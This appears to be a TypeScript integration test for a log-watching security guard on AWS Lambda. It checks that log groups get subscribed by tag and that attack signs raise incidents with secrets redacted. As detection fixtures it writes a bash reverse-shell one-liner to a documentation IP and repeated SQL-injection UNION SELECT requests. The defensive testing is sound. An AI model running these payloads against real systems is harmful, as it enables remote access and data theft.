import { randomBytes } from 'node:crypto';
import {
  CreateLogGroupCommand,
  CreateLogStreamCommand,
  DescribeSubscriptionFiltersCommand,
  PutLogEventsCommand,
  PutSubscriptionFilterCommand,
} from '@aws-sdk/client-cloudwatch-logs';
import { PutEventsCommand } from '@aws-sdk/client-eventbridge';
import {
  GetFunctionConfigurationCommand,
  InvokeCommand,
  TagResourceCommand,
  UntagResourceCommand,
} from '@aws-sdk/client-lambda';
import { until } from '../../local/until';
import { getIncident } from '../../shared/incident/store';
import { enter, incidentOf, type Made, makeFunction, reservedOf, type World } from './world';

describe('the logs of functions', () => {
  let world: World;
  beforeAll(async () => {
    world = await enter();
  });

  const guarded = (): Promise<Made> =>
    makeFunction(world, { mode: 'respond', name: `guarded-${randomBytes(4).toString('hex')}` });
  const groupOf = ({ name }: Made): string => `/aws/lambda/${name}`;
  const prefix = (): string => world.instance.stack.incidentTable.replace(/-incidents$/, '');

  const makeGroup = async (made: Made): Promise<void> => {
    const { logs } = world.instance.clients;
    await logs.send(new CreateLogGroupCommand({ logGroupName: groupOf(made) }));
    await logs.send(new CreateLogStreamCommand({ logGroupName: groupOf(made), logStreamName: 'one' }));
  };

  /** As CloudTrail reports what Lambda did: the local AWS does not report it. */
  const tellOfGroup = async (made: Made): Promise<void> => {
    await world.instance.clients.events.send(
      new PutEventsCommand({
        Entries: [
          {
            Source: 'aws.logs',
            DetailType: 'AWS API Call via CloudTrail',
            Detail: JSON.stringify({
              eventSource: 'logs.amazonaws.com',
              eventName: 'CreateLogGroup',
              requestParameters: { logGroupName: groupOf(made) },
            }),
          },
        ],
      }),
    );
  };

  const filtersOf = async (made: Made): Promise<readonly string[]> => {
    const { subscriptionFilters = [] } = await world.instance.clients.logs.send(
      new DescribeSubscriptionFiltersCommand({ logGroupName: groupOf(made) }),
    );
    return subscriptionFilters.flatMap(({ filterName }) => filterName ?? []);
  };

  /** Everything, as the schedule does. */
  const enrolAll = async (): Promise<void> => {
    const { FunctionError } = await world.instance.clients.lambda.send(
      new InvokeCommand({ FunctionName: `${prefix()}-enrol`, Payload: Buffer.from('{}') }),
    );
    expect(FunctionError).toBeUndefined();
  };

  const write = (made: Made, ...messages: readonly string[]) =>
    world.instance.clients.logs.send(
      new PutLogEventsCommand({
        logGroupName: groupOf(made),
        logStreamName: 'one',
        logEvents: messages.map((message, index) => ({ message, timestamp: Date.now() + index })),
      }),
    );

  it('are read from when they are made: people are asked about a sign, and nothing is contained (invariant 11)', async () => {
    const made = await guarded();
    await makeGroup(made);
    await tellOfGroup(made);
    await until('its filter', 60, async () => (await filtersOf(made)).includes(`${prefix()}-logs`));

    await write(
      made,
      'START RequestId: 1',
      'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 password=hunter2-canary',
      'END RequestId: 1',
    );
    const { id, because, witnesses } = await incidentOf(world, made, 'asking');
    expect(because.join()).toContain('a caller may have written the line');
    expect(Object.values(witnesses).map(({ rule }) => rule)).toEqual(['reverse-shell']);
    expect(JSON.stringify(await getIncident(world.records, id))).not.toContain('hunter2-canary');

    // One after the other, in payloads of their own: one finding of all.
    for (let at = 0; at < 21; at += 7)
      await write(
        made,
        ...Array.from(
          { length: 7 },
          (_, index) => `GET /?id=${at + index}' UNION SELECT password FROM users--`,
        ),
      );
    await until('the attempts', 60, async () =>
      Object.values((await getIncident(world.records, id)).witnesses).some(
        ({ rule }) => rule === 'attempts-repeated',
      ),
    );
    expect((await getIncident(world.records, id)).status).toBe('asking');
    expect(await reservedOf(world, made)).toBeNull();
  });

  it('are read as long as the function has the tag, and nobody is displaced', async () => {
    const [tagged, full] = [await makeFunction(world), await guarded()];
    const { lambda, logs } = world.instance.clients;
    await Promise.all([makeGroup(tagged), makeGroup(full)]);
    const { FunctionArn: destinationArn } = await lambda.send(
      new GetFunctionConfigurationCommand({ FunctionName: `${prefix()}-readLogs` }),
    );
    for (const filterName of ['theirs-1', 'theirs-2'])
      await logs.send(
        new PutSubscriptionFilterCommand({
          logGroupName: groupOf(full),
          filterName,
          filterPattern: 'never',
          destinationArn,
        }),
      );

    await lambda.send(new TagResourceCommand({ Resource: tagged.arn, Tags: { guard: 'logs' } }));
    await enrolAll();
    expect(await filtersOf(tagged)).toEqual([`${prefix()}-logs`]);
    expect(await filtersOf(full)).toEqual(['theirs-1', 'theirs-2']);

    await lambda.send(new UntagResourceCommand({ Resource: tagged.arn, TagKeys: ['guard'] }));
    await enrolAll();
    expect(await filtersOf(tagged)).toEqual([]);
  });
});
